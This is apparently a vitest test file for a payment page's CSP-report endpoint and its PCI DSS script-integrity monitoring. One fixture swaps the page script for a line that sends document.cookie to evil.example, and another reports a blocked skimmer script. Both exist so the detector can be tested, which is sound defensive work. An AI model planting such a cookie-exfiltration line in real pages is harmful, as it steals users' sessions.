import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildServerApp } from '../app';
import { checkPageIntegrity } from './pageIntegrity';
import { startTestApp } from '../testing/testApp';

const OPERATOR_KEY = 'operator-key-for-security-tests-0001';
const operator = { authorization: `Bearer ${OPERATOR_KEY}` };

/** A built page with one script carrying its integrity, and an import map, as the build makes. */
function builtPage(script: string) {
  const dist = mkdtempSync(join(tmpdir(), 'paypage-built-'));
  mkdirSync(join(dist, 'assets'));
  writeFileSync(join(dist, 'assets', 'index-1.js'), script);
  const integrity = `sha384-${createHash('sha384').update(script).digest('base64')}`;
  const importMap = JSON.stringify({ integrity: { '/assets/index-1.js': integrity } });
  writeFileSync(
    join(dist, 'index.html'),
    `<!doctype html><html lang="en"><head><script type="importmap">${importMap}</script>` +
      `<script type="module" src="/assets/index-1.js" integrity="${integrity}"></script></head></html>`,
  );
  return { dist, importMap };
}

describe('CSP reports', () => {
  it('takes both report formats and shows them to the operator only', async () => {
    const t = await startTestApp({ operatorApiKey: OPERATOR_KEY });
    const legacy = await t.inject({
      method: 'POST',
      url: '/csp-reports',
      headers: { 'content-type': 'application/csp-report' },
      payload: JSON.stringify({
        'csp-report': {
          'document-uri': 'https://pay.example/uuid/x',
          'blocked-uri': 'https://evil.example/skimmer.js',
          'violated-directive': 'script-src-elem',
          'effective-directive': 'script-src-elem',
          disposition: 'enforce',
        },
      }),
    });
    expect(legacy.statusCode).toBe(204);
    const modern = await t.inject({
      method: 'POST',
      url: '/csp-reports',
      headers: { 'content-type': 'application/reports+json' },
      payload: JSON.stringify([
        {
          type: 'csp-violation',
          url: 'https://pay.example/uuid/y',
          body: {
            documentURL: 'https://pay.example/uuid/y',
            blockedURL: 'eval',
            effectiveDirective: 'script-src',
          },
        },
      ]),
    });
    expect(modern.statusCode).toBe(204);
    const stranger = await t.inject({
      method: 'GET',
      url: '/api/operator/v1/csp-reports',
      headers: { authorization: `Bearer ${t.apiKey}` },
    });
    expect(stranger.statusCode).toBe(401);
    const list = await t.inject({
      method: 'GET',
      url: '/api/operator/v1/csp-reports',
      headers: operator,
    });
    expect(list.json().reports).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          blockedUri: 'https://evil.example/skimmer.js',
          directive: 'script-src-elem',
        }),
        expect.objectContaining({ blockedUri: 'eval', directive: 'script-src' }),
      ]),
    );
    const junk = await t.inject({
      method: 'POST',
      url: '/csp-reports',
      headers: { 'content-type': 'application/csp-report' },
      payload: '{"csp-report": 3}',
    });
    expect(junk.statusCode).toBe(400);
    expect(junk.json().fields[0].field).toBe('body.csp-report');
  });

  it('names the report endpoint in every policy, with the import map allowed by its hash only', async () => {
    const { dist, importMap } = builtPage('console.log("page")');
    const t = await startTestApp({ webDistDir: dist });
    const page = await t.inject({
      method: 'GET',
      url: '/uuid/00000000-0000-4000-8000-000000000001',
    });
    const csp = String(page.headers['content-security-policy']);
    const hash = createHash('sha256').update(importMap).digest('base64');
    const scriptSources = /script-src ([^;]*);/.exec(csp)?.[1]?.split(' ') ?? [];
    expect(scriptSources).toContain(`'sha256-${hash}'`);
    expect(scriptSources.filter((source) => source.startsWith("'sha256-"))).toHaveLength(1);
    expect(csp).toMatch(/; report-uri \/csp-reports$/);
    const api = await t.inject({
      method: 'GET',
      url: '/public/payment-link/uuid/00000000-0000-4000-8000-000000000001',
    });
    expect(api.headers['content-security-policy']).toContain("default-src 'none'");
    expect(api.headers['content-security-policy']).toContain('report-uri /csp-reports');
  });
});

describe('page integrity (PCI DSS 11.6.1)', () => {
  it('records a baseline, stays quiet while nothing changes, and reports a changed script once', async () => {
    const { dist } = builtPage('console.log("page")');
    const t = await startTestApp({ webDistDir: dist, operatorApiKey: OPERATOR_KEY });
    const first = await checkPageIntegrity(t.app, t.services);
    expect(first.map((o) => o.outcome)).toEqual([
      'baseline-recorded',
      'baseline-recorded',
      'baseline-recorded',
    ]);
    expect(
      (await checkPageIntegrity(t.app, t.services)).every((o) => o.outcome === 'unchanged'),
    ).toBe(true);

    // Someone swaps the served file (a compromised server or CDN): the bytes no longer match.
    writeFileSync(
      join(dist, 'assets', 'index-1.js'),
      'fetch("https://evil.example/" + document.cookie)',
    );
    const checked = await t.inject({
      method: 'POST',
      url: '/api/operator/v1/page-integrity/check',
      headers: operator,
    });
    expect(checked.json().targets).toContainEqual({ target: 'page scripts', outcome: 'changed' });
    expect(
      (await checkPageIntegrity(t.app, t.services)).every((o) => o.outcome === 'unchanged'),
    ).toBe(true);
    const alerts = (
      await t.inject({ method: 'GET', url: '/api/operator/v1/security-alerts', headers: operator })
    ).json().alerts;
    expect(alerts).toHaveLength(1);
    expect(alerts[0]).toMatchObject({ kind: 'page-scripts', detail: { target: 'page scripts' } });
    expect(alerts[0].detail.added[0]).toMatch(/^served \/assets\/index-1\.js 200 sha384-/);
  });

  it('reports a change of the security headers, seen by another instance of the service', async () => {
    const { dist } = builtPage('console.log("page")');
    const t = await startTestApp({ webDistDir: dist });
    await checkPageIntegrity(t.app, t.services);
    // The same store, another configuration: the page's policy now lets frames from elsewhere.
    const changed = await buildServerApp(
      { ...t.config, gppBaseUrl: 'https://other-gateway.example' },
      t.db,
    );
    const outcomes = await checkPageIntegrity(changed.app, changed.services);
    expect(outcomes).toContainEqual({ target: 'page headers', outcome: 'changed' });
    const alerts = await changed.services.db.selectFrom('security_alerts').selectAll().execute();
    // The policy changed; so did where the page's PayPal fraud-data script comes from.
    const headers = alerts.find((alert) => alert.kind === 'security-headers');
    expect(headers?.detail).toContain('other-gateway.example');
    await changed.app.close();
  });
});
